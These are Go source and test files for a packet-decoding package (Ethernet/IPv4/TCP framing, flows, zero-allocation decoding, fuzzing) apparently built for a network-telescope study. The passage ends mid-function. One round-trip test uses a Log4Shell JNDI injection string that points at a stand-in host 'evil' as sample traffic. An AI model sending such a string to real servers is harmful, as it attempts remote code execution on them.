	Addr netip.Addr
	Port uint16
}

// String formats the endpoint as addr:port.
func (e Endpoint) String() string { return fmt.Sprintf("%s:%d", e.Addr, e.Port) }

// Flow is a directed (src, dst) endpoint pair identifying one direction of a
// TCP connection.
type Flow struct {
	Src Endpoint
	Dst Endpoint
}

// String formats the flow as "src -> dst".
func (f Flow) String() string { return f.Src.String() + " -> " + f.Dst.String() }

// Reverse returns the flow for the opposite direction.
func (f Flow) Reverse() Flow { return Flow{Src: f.Dst, Dst: f.Src} }

// Canonical returns a direction-independent key for the connection: the flow
// whose source endpoint orders before its destination. Both directions of a
// connection map to the same canonical flow, which is what connection-table
// keys need.
func (f Flow) Canonical() Flow {
	if endpointLess(f.Dst, f.Src) {
		return f.Reverse()
	}
	return f
}

func endpointLess(a, b Endpoint) bool {
	if c := a.Addr.Compare(b.Addr); c != 0 {
		return c < 0
	}
	return a.Port < b.Port
}
