package packet

import (
	"fmt"
	"math/rand"
	"net/netip"
)

// Packet is a fully decoded Ethernet/IPv4/TCP frame as captured by the
// telescope. Non-TCP and non-IPv4 frames are rejected by Decode; the study's
// collection methodology is TCP-only (DSCOPE accepts TCP on all ports).
//
// The layer pointers point into the Packet's own embedded backing headers
// (one struct, one allocation — or zero with DecodeInto), so a decoded
// Packet must be passed by pointer: copying the value would leave the copy's
// pointers aimed at the original.
type Packet struct {
	Eth *Ethernet
	IP  *IPv4
	TCP *TCP

	// Backing storage for the layer pointers above. DecodeInto overwrites
	// these in place, which is what makes the hot decode path allocation-free.
	eth Ethernet
	ip  IPv4
	tcp TCP
}

// Decode parses a full frame starting at the Ethernet layer. It returns an
// error if any layer is malformed or if the frame is not IPv4/TCP.
func Decode(data []byte) (*Packet, error) {
	p := new(Packet)
	if err := DecodeInto(p, data); err != nil {
		return nil, err
	}
	return p, nil
}

// DecodeInto decodes a full frame into p without allocating: the embedded
// backing headers are overwritten in place and every payload slice aliases
// data, so p may be reused across frames as long as each frame's buffer
// stays untouched until downstream consumers (reassembly copies what it
// retains) are done with the packet. On error the layer pointers are
// cleared, so a stale previous decode cannot be mistaken for this frame's.
func DecodeInto(p *Packet, data []byte) error {
	p.Eth, p.IP, p.TCP = nil, nil, nil
	if err := p.eth.DecodeFrom(data); err != nil {
		return err
	}
	if p.eth.EtherType != EtherTypeIPv4 {
		return fmt.Errorf("%w: 0x%04x", ErrNotIPv4, p.eth.EtherType)
	}
	if err := p.ip.DecodeFrom(p.eth.LayerPayload()); err != nil {
		return err
	}
	if p.ip.Protocol != IPProtoTCP {
		return fmt.Errorf("%w: protocol %d", ErrNotTCP, p.ip.Protocol)
	}
	if err := p.tcp.DecodeFrom(p.ip.LayerPayload()); err != nil {
		return err
	}
	p.Eth, p.IP, p.TCP = &p.eth, &p.ip, &p.tcp
	return nil
}

// Flow returns the directed flow of the packet.
func (p *Packet) Flow() Flow {
	return Flow{
		Src: Endpoint{Addr: p.IP.Src, Port: p.TCP.SrcPort},
		Dst: Endpoint{Addr: p.IP.Dst, Port: p.TCP.DstPort},
	}
}

// Payload returns the application-layer bytes of the packet.
func (p *Packet) Payload() []byte { return p.TCP.LayerPayload() }

// Builder assembles valid Ethernet/IPv4/TCP frames. It exists so the traffic
// generator and tests can produce byte-exact wire frames that round-trip
// through Decode, the pcap files, and TCP reassembly.
type Builder struct {
	// SrcMAC and DstMAC are used for every frame. The defaults are
	// locally administered addresses.
	SrcMAC MAC
	DstMAC MAC
	// TTL for generated IPv4 headers. Defaults to 64 when zero.
	TTL uint8

	ipID uint16
	src  rand.Source
	rng  *rand.Rand

	// Scratch for the inner layers of BuildTo, reused across frames so the
	// streaming synthesis path allocates nothing per packet.
	tcpScratch []byte
	ipScratch  []byte
}

// NewBuilder returns a Builder with deterministic IP IDs seeded from seed.
func NewBuilder(seed int64) *Builder {
	src := rand.NewSource(seed)
	return &Builder{
		SrcMAC: MAC{0x02, 0x00, 0x00, 0x00, 0x00, 0x01},
		DstMAC: MAC{0x02, 0x00, 0x00, 0x00, 0x00, 0x02},
		TTL:    64,
		src:    src,
		rng:    rand.New(src),
	}
}

// Reset rewinds the builder to its just-constructed state under a new seed:
// IP IDs restart at one and RandomISN replays the seed's sequence. Streamed
// synthesis reseeds one builder per session so frame bytes depend only on the
// session, not on how sessions are interleaved across generators.
func (b *Builder) Reset(seed int64) {
	b.src.Seed(seed)
	b.ipID = 0
}

// Segment describes one TCP segment to build.
type Segment struct {
	Src     Endpoint
	Dst     Endpoint
	Seq     uint32
	Ack     uint32
	Flags   uint8
	Window  uint16
	Payload []byte
}

// Build serializes the segment into a complete Ethernet frame.
func (b *Builder) Build(seg Segment) ([]byte, error) {
	return b.BuildTo(nil, seg)
}

// BuildTo serializes the segment into a complete Ethernet frame appended to
// dst (which may be nil). The inner layers serialize into builder-owned
// scratch, so a reused dst makes frame synthesis allocation-free — the
// streaming capture path lends the decoder's buffer here directly.
func (b *Builder) BuildTo(dst []byte, seg Segment) ([]byte, error) {
	if !seg.Src.Addr.Is4() || !seg.Dst.Addr.Is4() {
		return nil, fmt.Errorf("packet: builder requires IPv4 addresses, got %s -> %s", seg.Src.Addr, seg.Dst.Addr)
	}
	window := seg.Window
	if window == 0 {
		window = 65535
	}
	tcp := TCP{
		SrcPort: seg.Src.Port,
		DstPort: seg.Dst.Port,
		Seq:     seg.Seq,
		Ack:     seg.Ack,
		Flags:   seg.Flags,
		Window:  window,
	}
	var err error
	b.tcpScratch, err = tcp.SerializeTo(b.tcpScratch[:0], seg.Src.Addr, seg.Dst.Addr, seg.Payload)
	if err != nil {
		return nil, err
	}
	b.ipID++
	ip := IPv4{
		ID:       b.ipID,
		TTL:      b.ttl(),
		Protocol: IPProtoTCP,
		Src:      seg.Src.Addr,
		Dst:      seg.Dst.Addr,
	}
	b.ipScratch, err = ip.SerializeTo(b.ipScratch[:0], b.tcpScratch)
	if err != nil {
		return nil, err
	}
	eth := Ethernet{Dst: b.DstMAC, Src: b.SrcMAC, EtherType: EtherTypeIPv4}
	return eth.SerializeTo(dst, b.ipScratch), nil
}

func (b *Builder) ttl() uint8 {
	if b.TTL == 0 {
		return 64
	}
	return b.TTL
}

// RandomISN returns a pseudorandom initial sequence number. The builder's
// RNG is seeded, so frame generation is reproducible.
func (b *Builder) RandomISN() uint32 { return b.rng.Uint32() }

// MustAddr parses a dotted-quad IPv4 address, panicking on failure. Intended
// for tests and static configuration.
func MustAddr(s string) netip.Addr {
	a, err := netip.ParseAddr(s)
	if err != nil {
		panic(err)
	}
	if !a.Is4() {
		panic(fmt.Sprintf("packet: %s is not IPv4", s))
	}
	return a
}
