package packet

import (
	"bytes"
	"testing"
)

// TestDecodeIntoMatchesDecode holds the zero-alloc path to the legacy one:
// for the same frame, every decoded field and payload must agree.
func TestDecodeIntoMatchesDecode(t *testing.T) {
	bld := NewBuilder(7)
	frames := [][]byte{}
	for i, payload := range [][]byte{
		[]byte("GET / HTTP/1.0\r\n\r\n"),
		nil,
		bytes.Repeat([]byte("x"), 1000),
	} {
		frame, err := bld.Build(Segment{
			Src: srcEP, Dst: dstEP,
			Seq: uint32(100 * i), Flags: FlagPSH | FlagACK, Payload: payload,
		})
		if err != nil {
			t.Fatal(err)
		}
		frames = append(frames, frame)
	}

	var reused Packet
	for i, frame := range frames {
		want, err := Decode(frame)
		if err != nil {
			t.Fatalf("frame %d: Decode: %v", i, err)
		}
		if err := DecodeInto(&reused, frame); err != nil {
			t.Fatalf("frame %d: DecodeInto: %v", i, err)
		}
		if reused.Eth == nil || reused.IP == nil || reused.TCP == nil {
			t.Fatalf("frame %d: DecodeInto left nil layer pointers", i)
		}
		if reused.Eth.Dst != want.Eth.Dst || reused.Eth.Src != want.Eth.Src ||
			reused.Eth.EtherType != want.Eth.EtherType {
			t.Errorf("frame %d: ethernet mismatch: %+v vs %+v", i, *reused.Eth, *want.Eth)
		}
		if reused.IP.Src != want.IP.Src || reused.IP.Dst != want.IP.Dst ||
			reused.IP.Length != want.IP.Length || reused.IP.ID != want.IP.ID {
			t.Errorf("frame %d: ipv4 mismatch: %+v vs %+v", i, *reused.IP, *want.IP)
		}
		if reused.TCP.SrcPort != want.TCP.SrcPort || reused.TCP.Seq != want.TCP.Seq ||
			reused.TCP.Flags != want.TCP.Flags {
			t.Errorf("frame %d: tcp mismatch: %+v vs %+v", i, *reused.TCP, *want.TCP)
		}
		if !bytes.Equal(reused.Payload(), want.Payload()) {
			t.Errorf("frame %d: payload mismatch: %d vs %d bytes", i, len(reused.Payload()), len(want.Payload()))
		}
		if reused.Flow() != want.Flow() {
			t.Errorf("frame %d: flow mismatch: %v vs %v", i, reused.Flow(), want.Flow())
		}
	}
}

// TestDecodeIntoSelfBacked verifies the layer pointers target the Packet's
// own embedded headers, the property the pooled front-end relies on.
func TestDecodeIntoSelfBacked(t *testing.T) {
	bld := NewBuilder(1)
	frame, err := bld.Build(Segment{Src: srcEP, Dst: dstEP, Flags: FlagSYN})
	if err != nil {
		t.Fatal(err)
	}
	var p Packet
	if err := DecodeInto(&p, frame); err != nil {
		t.Fatal(err)
	}
	if p.Eth != &p.eth || p.IP != &p.ip || p.TCP != &p.tcp {
		t.Fatal("DecodeInto must point layers at the Packet's embedded backing headers")
	}
}

// TestDecodeIntoErrorClearsLayers: after a failed decode, a previously
// successful decode must not shine through the layer pointers.
func TestDecodeIntoErrorClearsLayers(t *testing.T) {
	bld := NewBuilder(1)
	frame, err := bld.Build(Segment{Src: srcEP, Dst: dstEP, Flags: FlagACK})
	if err != nil {
		t.Fatal(err)
	}
	var p Packet
	if err := DecodeInto(&p, frame); err != nil {
		t.Fatal(err)
	}
	if err := DecodeInto(&p, frame[:10]); err == nil {
		t.Fatal("truncated frame must not decode")
	}
	if p.Eth != nil || p.IP != nil || p.TCP != nil {
		t.Fatalf("failed DecodeInto left stale layers: %v %v %v", p.Eth, p.IP, p.TCP)
	}
}

// TestDecodeIntoAllocs pins the acceptance criterion directly: the zero-copy
// path performs zero heap allocations per frame.
func TestDecodeIntoAllocs(t *testing.T) {
	bld := NewBuilder(1)
	frame, err := bld.Build(Segment{
		Src: srcEP, Dst: dstEP, Flags: FlagPSH | FlagACK,
		Payload: bytes.Repeat([]byte("A"), 256),
	})
	if err != nil {
		t.Fatal(err)
	}
	var p Packet
	allocs := testing.AllocsPerRun(200, func() {
		if err := DecodeInto(&p, frame); err != nil {
			t.Fatal(err)
		}
	})
	if allocs != 0 {
		t.Fatalf("DecodeInto allocates %.1f times per frame, want 0", allocs)
	}
}
