package packet

import (
	"bytes"
	"net/netip"
	"testing"
	"testing/quick"
)

var (
	srcEP = Endpoint{Addr: MustAddr("10.1.2.3"), Port: 43210}
	dstEP = Endpoint{Addr: MustAddr("172.31.0.9"), Port: 8090}
)

func buildFrame(t *testing.T, seg Segment) []byte {
	t.Helper()
	b := NewBuilder(1)
	frame, err := b.Build(seg)
	if err != nil {
		t.Fatalf("Build: %v", err)
	}
	return frame
}

func TestRoundTrip(t *testing.T) {
	payload := []byte("GET /?x=${jndi:ldap://evil/a} HTTP/1.1\r\nHost: target\r\n\r\n")
	frame := buildFrame(t, Segment{
		Src: srcEP, Dst: dstEP,
		Seq: 1000, Ack: 2000,
		Flags:   FlagPSH | FlagACK,
		Payload: payload,
	})
	p, err := Decode(frame)
	if err != nil {
		t.Fatalf("Decode: %v", err)
	}
	if p.IP.Src != srcEP.Addr || p.IP.Dst != dstEP.Addr {
		t.Errorf("IP addrs = %s -> %s, want %s -> %s", p.IP.Src, p.IP.Dst, srcEP.Addr, dstEP.Addr)
	}
	if p.TCP.SrcPort != srcEP.Port || p.TCP.DstPort != dstEP.Port {
		t.Errorf("ports = %d -> %d", p.TCP.SrcPort, p.TCP.DstPort)
	}
	if p.TCP.Seq != 1000 || p.TCP.Ack != 2000 {
		t.Errorf("seq/ack = %d/%d", p.TCP.Seq, p.TCP.Ack)
	}
	if !p.TCP.ACK() || p.TCP.SYN() {
		t.Errorf("flags = %06b", p.TCP.Flags)
	}
	if !bytes.Equal(p.Payload(), payload) {
		t.Errorf("payload mismatch: %q", p.Payload())
	}
	if got := p.Flow(); got.Src != srcEP || got.Dst != dstEP {
		t.Errorf("Flow() = %v", got)
	}
}

func TestDecodeChecksumValidation(t *testing.T) {
	frame := buildFrame(t, Segment{Src: srcEP, Dst: dstEP, Flags: FlagSYN})
	// Corrupt one byte of the IP header (TTL).
	frame[ethernetHeaderLen+8] ^= 0xff
	if _, err := Decode(frame); err == nil {
		t.Error("Decode accepted frame with corrupted IP header")
	}
}

func TestVerifyTCPChecksum(t *testing.T) {
	frame := buildFrame(t, Segment{Src: srcEP, Dst: dstEP, Flags: FlagSYN | FlagACK, Payload: []byte("hi")})
	p, err := Decode(frame)
	if err != nil {
		t.Fatal(err)
	}
	seg := frame[ethernetHeaderLen+p.IP.HeaderLen():]
	if !VerifyTCPChecksum(p.IP.Src, p.IP.Dst, seg) {
		t.Error("valid segment failed checksum verification")
	}
	seg2 := append([]byte(nil), seg...)
	seg2[len(seg2)-1] ^= 0x01
	if VerifyTCPChecksum(p.IP.Src, p.IP.Dst, seg2) {
		t.Error("corrupted segment passed checksum verification")
	}
}

func TestDecodeTruncated(t *testing.T) {
	frame := buildFrame(t, Segment{Src: srcEP, Dst: dstEP, Flags: FlagSYN, Payload: []byte("abcdef")})
	for _, n := range []int{0, 5, ethernetHeaderLen - 1, ethernetHeaderLen + 3, ethernetHeaderLen + ipv4MinHeaderLen + 2} {
		if _, err := Decode(frame[:n]); err == nil {
			t.Errorf("Decode of %d-byte prefix succeeded", n)
		}
	}
}

func TestDecodeRejectsNonIPv4EtherType(t *testing.T) {
	frame := buildFrame(t, Segment{Src: srcEP, Dst: dstEP, Flags: FlagSYN})
	frame[12], frame[13] = 0x86, 0xdd // IPv6 EtherType
	if _, err := Decode(frame); err == nil {
		t.Error("Decode accepted IPv6 EtherType")
	}
}

func TestDecodeRejectsNonTCP(t *testing.T) {
	// Build a valid frame, flip the protocol to UDP, and fix the checksum.
	frame := buildFrame(t, Segment{Src: srcEP, Dst: dstEP, Flags: FlagSYN})
	ipHdr := frame[ethernetHeaderLen : ethernetHeaderLen+ipv4MinHeaderLen]
	ipHdr[9] = 17               // UDP
	ipHdr[10], ipHdr[11] = 0, 0 // zero checksum
	cs := Checksum(ipHdr)
	ipHdr[10], ipHdr[11] = byte(cs>>8), byte(cs)
	if _, err := Decode(frame); err == nil {
		t.Error("Decode accepted UDP protocol")
	}
}

func TestIPv4BadVersion(t *testing.T) {
	frame := buildFrame(t, Segment{Src: srcEP, Dst: dstEP, Flags: FlagSYN})
	ip := frame[ethernetHeaderLen:]
	ip[0] = (6 << 4) | (ip[0] & 0x0f)
	if _, err := DecodeIPv4(ip); err == nil {
		t.Error("DecodeIPv4 accepted version 6")
	}
}

func TestIPv4TrailingPadIgnored(t *testing.T) {
	// Ethernet minimum frame size forces padding after short IP datagrams;
	// the decoder must honor the IP total length, not the buffer length.
	frame := buildFrame(t, Segment{Src: srcEP, Dst: dstEP, Flags: FlagSYN})
	padded := append(append([]byte(nil), frame...), make([]byte, 10)...)
	p, err := Decode(padded)
	if err != nil {
		t.Fatalf("Decode of padded frame: %v", err)
	}
	if len(p.Payload()) != 0 {
		t.Errorf("padding leaked into payload: %d bytes", len(p.Payload()))
	}
}

func TestChecksumKnownVector(t *testing.T) {
	// Example from RFC 1071 materials: checksum of this header equals the
	// embedded checksum field when it is zeroed.
	hdr := []byte{
		0x45, 0x00, 0x00, 0x73, 0x00, 0x00, 0x40, 0x00,
		0x40, 0x11, 0x00, 0x00, 0xc0, 0xa8, 0x00, 0x01,
		0xc0, 0xa8, 0x00, 0xc7,
	}
	if got := Checksum(hdr); got != 0xb861 {
		t.Errorf("Checksum = 0x%04x, want 0xb861", got)
	}
}

func TestChecksumOddLength(t *testing.T) {
	// Odd-length data pads the final byte as the high octet.
	if got, want := Checksum([]byte{0x01}), ^uint16(0x0100); got != want {
		t.Errorf("Checksum odd = 0x%04x, want 0x%04x", got, want)
	}
}

func TestFlowCanonical(t *testing.T) {
	f := Flow{Src: dstEP, Dst: srcEP}
	c := f.Canonical()
	if c != f.Reverse().Canonical() {
		t.Error("Canonical not direction independent")
	}
	if endpointLess(c.Dst, c.Src) {
		t.Error("Canonical flow not ordered")
	}
}

func TestFlowString(t *testing.T) {
	f := Flow{Src: srcEP, Dst: dstEP}
	if got, want := f.String(), "10.1.2.3:43210 -> 172.31.0.9:8090"; got != want {
		t.Errorf("String() = %q, want %q", got, want)
	}
}

func TestMACString(t *testing.T) {
	m := MAC{0x02, 0x00, 0xab, 0xcd, 0xef, 0x01}
	if got, want := m.String(), "02:00:ab:cd:ef:01"; got != want {
		t.Errorf("MAC.String() = %q, want %q", got, want)
	}
}

func TestBuilderRejectsIPv6(t *testing.T) {
	b := NewBuilder(1)
	v6 := netip.MustParseAddr("2001:db8::1")
	if _, err := b.Build(Segment{Src: Endpoint{Addr: v6, Port: 1}, Dst: dstEP}); err == nil {
		t.Error("Build accepted IPv6 source")
	}
}

func TestBuilderDeterministic(t *testing.T) {
	b1, b2 := NewBuilder(7), NewBuilder(7)
	if b1.RandomISN() != b2.RandomISN() {
		t.Error("same seed produced different ISNs")
	}
	f1, _ := b1.Build(Segment{Src: srcEP, Dst: dstEP, Flags: FlagSYN})
	f2, _ := b2.Build(Segment{Src: srcEP, Dst: dstEP, Flags: FlagSYN})
	if !bytes.Equal(f1, f2) {
		t.Error("same seed produced different frames")
	}
}

func TestBuilderResetReplaysSequence(t *testing.T) {
	b := NewBuilder(7)
	isn := b.RandomISN()
	f1, err := b.Build(Segment{Src: srcEP, Dst: dstEP, Flags: FlagSYN, Payload: []byte("hello")})
	if err != nil {
		t.Fatal(err)
	}
	b.RandomISN() // perturb the rng and ipID state
	b.Build(Segment{Src: srcEP, Dst: dstEP, Flags: FlagACK})

	b.Reset(7)
	if got := b.RandomISN(); got != isn {
		t.Errorf("post-Reset ISN = %d, want %d", got, isn)
	}
	f2, err := b.Build(Segment{Src: srcEP, Dst: dstEP, Flags: FlagSYN, Payload: []byte("hello")})
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(f1, f2) {
		t.Error("Reset did not replay the frame sequence (IP ID or rng state leaked)")
	}
}

func TestBuildToAppendsAndMatchesBuild(t *testing.T) {
	b1, b2 := NewBuilder(3), NewBuilder(3)
	seg := Segment{Src: srcEP, Dst: dstEP, Flags: FlagPSH | FlagACK, Seq: 42, Payload: []byte("payload")}
	want, err := b1.Build(seg)
	if err != nil {
		t.Fatal(err)
	}
	prefix := []byte{0xde, 0xad}
	got, err := b2.BuildTo(append([]byte(nil), prefix...), seg)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(got[:2], prefix) {
		t.Error("BuildTo clobbered the destination prefix")
	}
	if !bytes.Equal(got[2:], want) {
		t.Error("BuildTo frame differs from Build frame")
	}
	// Scratch reuse across calls must not corrupt a second frame.
	seg2 := seg
	seg2.Payload = []byte("a different, longer payload entirely")
	want2, _ := b1.Build(seg2)
	got2, err := b2.BuildTo(nil, seg2)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(got2, want2) {
		t.Error("second BuildTo frame differs from Build (scratch reuse bug)")
	}
}

func TestIPIDsIncrement(t *testing.T) {
	b := NewBuilder(1)
	f1, _ := b.Build(Segment{Src: srcEP, Dst: dstEP, Flags: FlagSYN})
	f2, _ := b.Build(Segment{Src: srcEP, Dst: dstEP, Flags: FlagSYN})
	p1, err1 := Decode(f1)
	p2, err2 := Decode(f2)
	if err1 != nil || err2 != nil {
		t.Fatalf("decode: %v %v", err1, err2)
	}
	if p2.IP.ID != p1.IP.ID+1 {
		t.Errorf("IP IDs = %d, %d; want increment by 1", p1.IP.ID, p2.IP.ID)
	}
}

// Property: any payload round-trips bit-exactly through build + decode.
func TestRoundTripProperty(t *testing.T) {
	b := NewBuilder(99)
	f := func(payload []byte, seq, ack uint32, flags uint8) bool {
		if len(payload) > 1400 {
			payload = payload[:1400]
		}
		frame, err := b.Build(Segment{
			Src: srcEP, Dst: dstEP,
			Seq: seq, Ack: ack, Flags: flags & 0x3f,
			Payload: payload,
		})
		if err != nil {
			return false
		}
		p, err := Decode(frame)
		if err != nil {
			return false
		}
		return bytes.Equal(p.Payload(), payload) &&
			p.TCP.Seq == seq && p.TCP.Ack == ack && p.TCP.Flags == flags&0x3f
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 200}); err != nil {
		t.Error(err)
	}
}

// Property: decoding never panics on arbitrary bytes.
func TestDecodeNoPanicProperty(t *testing.T) {
	f := func(data []byte) bool {
		_, _ = Decode(data) // must not panic
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 500}); err != nil {
		t.Error(err)
	}
}

func TestLayerTypeString(t *testing.T) {
	cases := map[LayerType]string{
		LayerTypeEthernet: "Ethernet",
		LayerTypeIPv4:     "IPv4",
		LayerTypeTCP:      "TCP",
		LayerTypePayload:  "Payload",
		LayerType(200):    "Unknown(200)",
	}
	for lt, want := range cases {
		if got := lt.String(); got != want {
			t.Errorf("%d.String() = %q, want %q", lt, got, want)
		}
	}
}

func BenchmarkDecode(b *testing.B) {
	bld := NewBuilder(1)
	frame, err := bld.Build(Segment{
		Src: srcEP, Dst: dstEP, Flags: FlagPSH | FlagACK,
		Payload: bytes.Repeat([]byte("A"), 512),
	})
	if err != nil {
		b.Fatal(err)
	}
	b.Run("legacy", func(b *testing.B) {
		b.ReportAllocs()
		for i := 0; i < b.N; i++ {
			if _, err := Decode(frame); err != nil {
				b.Fatal(err)
			}
		}
	})
	b.Run("into", func(b *testing.B) {
		var p Packet
		b.ReportAllocs()
		for i := 0; i < b.N; i++ {
			if err := DecodeInto(&p, frame); err != nil {
				b.Fatal(err)
			}
		}
	})
}

func BenchmarkBuild(b *testing.B) {
	bld := NewBuilder(1)
	payload := bytes.Repeat([]byte("A"), 512)
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := bld.Build(Segment{Src: srcEP, Dst: dstEP, Flags: FlagACK, Payload: payload}); err != nil {
			b.Fatal(err)
		}
	}
}
