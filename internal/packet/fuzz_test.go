package packet

import "testing"

func FuzzDecode(f *testing.F) {
	b := NewBuilder(1)
	frame, _ := b.Build(Segment{Src: srcEP, Dst: dstEP, Flags: FlagSYN, Payload: []byte("seed")})
	f.Add(frame)
	f.Add([]byte{})
	f.Add(make([]byte, 64))
	f.Fuzz(func(t *testing.T, data []byte) {
		p, err := Decode(data)
		if err != nil {
			return
		}
		// Accepted frames expose consistent views.
		if p.IP.HeaderLen() < 20 {
			t.Fatalf("accepted frame with header length %d", p.IP.HeaderLen())
		}
		_ = p.Flow()
		_ = p.Payload()
	})
}
