package packet

import (
	"reflect"
	"testing"

	"repro/internal/fuzzcorpus"
)

func fuzzDecodeSeeds() [][]byte {
	b := NewBuilder(1)
	frame, _ := b.Build(Segment{Src: srcEP, Dst: dstEP, Flags: FlagSYN, Payload: []byte("seed")})
	return [][]byte{
		frame,
		{},
		make([]byte, 64),
	}
}

func FuzzDecode(f *testing.F) {
	for _, seed := range fuzzDecodeSeeds() {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		p, err := Decode(data)
		if err != nil {
			return
		}
		// Accepted frames expose consistent views.
		if p.IP.HeaderLen() < 20 {
			t.Fatalf("accepted frame with header length %d", p.IP.HeaderLen())
		}
		_ = p.Flow()
		_ = p.Payload()
	})
}

func fuzzDecodeIntoSeeds() [][]byte {
	b := NewBuilder(1)
	syn, _ := b.Build(Segment{Src: srcEP, Dst: dstEP, Flags: FlagSYN})
	push, _ := b.Build(Segment{Src: srcEP, Dst: dstEP, Seq: 7, Ack: 3, Flags: FlagPSH | FlagACK, Payload: []byte("GET / HTTP/1.0\r\n")})
	fin, _ := b.Build(Segment{Src: dstEP, Dst: srcEP, Seq: 3, Ack: 23, Flags: FlagFIN | FlagACK})
	return [][]byte{
		syn,
		push,
		fin,
		{},
		syn[:13],  // mid-Ethernet truncation
		push[:20], // mid-IP truncation
		append([]byte(nil), push[:len(push)-4]...), // mid-payload truncation
	}
}

// FuzzDecodeInto cross-checks the zero-alloc decode against Decode: a reused
// Packet — deliberately dirtied by a prior successful decode, the way the
// capture front-end reuses it frame after frame — must reach the same
// accept/reject decision and the same decoded views as a fresh decode of the
// same bytes, and must clear its layer pointers on rejection so a stale frame
// cannot masquerade as the current one.
func FuzzDecodeInto(f *testing.F) {
	for _, seed := range fuzzDecodeIntoSeeds() {
		f.Add(seed)
	}
	b := NewBuilder(1)
	dirty, _ := b.Build(Segment{Src: srcEP, Dst: dstEP, Flags: FlagSYN, Payload: []byte("prior frame")})
	f.Fuzz(func(t *testing.T, data []byte) {
		fresh, freshErr := Decode(data)

		var reused Packet
		if err := DecodeInto(&reused, dirty); err != nil {
			t.Fatalf("decoding the known-good priming frame: %v", err)
		}
		err := DecodeInto(&reused, data)
		if (err == nil) != (freshErr == nil) {
			t.Fatalf("Decode err=%v but DecodeInto on a reused packet err=%v", freshErr, err)
		}
		if err != nil {
			if reused.Eth != nil || reused.IP != nil || reused.TCP != nil {
				t.Fatal("DecodeInto left stale layer pointers set after an error")
			}
			return
		}
		if !reflect.DeepEqual(*fresh.Eth, *reused.Eth) {
			t.Fatalf("Ethernet views differ:\nfresh  %+v\nreused %+v", *fresh.Eth, *reused.Eth)
		}
		if !reflect.DeepEqual(*fresh.IP, *reused.IP) {
			t.Fatalf("IPv4 views differ:\nfresh  %+v\nreused %+v", *fresh.IP, *reused.IP)
		}
		if !reflect.DeepEqual(*fresh.TCP, *reused.TCP) {
			t.Fatalf("TCP views differ:\nfresh  %+v\nreused %+v", *fresh.TCP, *reused.TCP)
		}
		if fresh.Flow() != reused.Flow() {
			t.Fatalf("flows differ: %v vs %v", fresh.Flow(), reused.Flow())
		}
		if string(fresh.Payload()) != string(reused.Payload()) {
			t.Fatalf("payloads differ: %q vs %q", fresh.Payload(), reused.Payload())
		}
	})
}

// TestRegenFuzzCorpus rewrites this package's committed seed corpora from
// the same seed lists the fuzz targets f.Add. Run with REGEN_FUZZ_CORPUS=1
// after changing the seeds.
func TestRegenFuzzCorpus(t *testing.T) {
	if !fuzzcorpus.Regen() {
		t.Skip("set REGEN_FUZZ_CORPUS=1 to rewrite testdata/fuzz")
	}
	fuzzcorpus.Write(t, "FuzzDecode", fuzzDecodeSeeds())
	fuzzcorpus.Write(t, "FuzzDecodeInto", fuzzDecodeIntoSeeds())
}
