// Package packet implements the small packet-decoding core the study needs:
// Ethernet, IPv4, and TCP layer decoding and serialization, plus flow and
// endpoint abstractions for grouping packets into connections.
//
// The design follows the gopacket layering idiom: a packet is a stack of
// layers, each layer knows its own wire format, and flows/endpoints are
// fixed-size hashable values so they can key maps without allocation.
// Only the stdlib is used.
package packet

import (
	"encoding/binary"
	"errors"
	"fmt"
	"net/netip"
)

// Layer is one protocol layer within a decoded packet.
type Layer interface {
	// LayerType identifies the protocol of this layer.
	LayerType() LayerType
	// LayerPayload returns the bytes this layer carries for the next layer
	// up the stack.
	LayerPayload() []byte
}

// LayerType identifies a protocol layer.
type LayerType uint8

// Layer types understood by this package.
const (
	LayerTypeUnknown LayerType = iota
	LayerTypeEthernet
	LayerTypeIPv4
	LayerTypeTCP
	LayerTypePayload
)

// String returns a human-readable name for the layer type.
func (t LayerType) String() string {
	switch t {
	case LayerTypeEthernet:
		return "Ethernet"
	case LayerTypeIPv4:
		return "IPv4"
	case LayerTypeTCP:
		return "TCP"
	case LayerTypePayload:
		return "Payload"
	default:
		return fmt.Sprintf("Unknown(%d)", uint8(t))
	}
}

// Decode errors.
var (
	ErrTruncated   = errors.New("packet: truncated data")
	ErrBadVersion  = errors.New("packet: unexpected IP version")
	ErrBadHdrLen   = errors.New("packet: header length field out of range")
	ErrNotIPv4     = errors.New("packet: EtherType is not IPv4")
	ErrNotTCP      = errors.New("packet: IP protocol is not TCP")
	ErrBadChecksum = errors.New("packet: checksum mismatch")
)

// EtherType values used by the study (the telescope sees only IPv4 traffic).
const (
	EtherTypeIPv4 uint16 = 0x0800
)

// IP protocol numbers.
const (
	IPProtoTCP uint8 = 6
)

// MAC is a 6-byte Ethernet hardware address.
type MAC [6]byte

// String formats the MAC in the conventional colon-separated form.
func (m MAC) String() string {
	return fmt.Sprintf("%02x:%02x:%02x:%02x:%02x:%02x", m[0], m[1], m[2], m[3], m[4], m[5])
}

// Ethernet is a decoded Ethernet II frame header.
type Ethernet struct {
	Dst       MAC
	Src       MAC
	EtherType uint16
	payload   []byte
}

// ethernetHeaderLen is the length of an Ethernet II header without VLAN tags.
const ethernetHeaderLen = 14

// DecodeFrom parses an Ethernet II frame into e, overwriting every field.
// The payload aliases data; callers that retain it across buffer reuse must
// copy. On error e is left in an unspecified state.
func (e *Ethernet) DecodeFrom(data []byte) error {
	if len(data) < ethernetHeaderLen {
		return fmt.Errorf("ethernet header: %w (%d bytes)", ErrTruncated, len(data))
	}
	copy(e.Dst[:], data[0:6])
	copy(e.Src[:], data[6:12])
	e.EtherType = binary.BigEndian.Uint16(data[12:14])
	e.payload = data[14:]
	return nil
}

// DecodeEthernet parses an Ethernet II frame. The returned layer's payload
// aliases data; callers that retain it across buffer reuse must copy.
func DecodeEthernet(data []byte) (*Ethernet, error) {
	e := new(Ethernet)
	if err := e.DecodeFrom(data); err != nil {
		return nil, err
	}
	return e, nil
}

// LayerType implements Layer.
func (e *Ethernet) LayerType() LayerType { return LayerTypeEthernet }

// LayerPayload implements Layer.
func (e *Ethernet) LayerPayload() []byte { return e.payload }

// SerializeTo appends the wire form of the header followed by payload to dst
// and returns the extended slice.
func (e *Ethernet) SerializeTo(dst []byte, payload []byte) []byte {
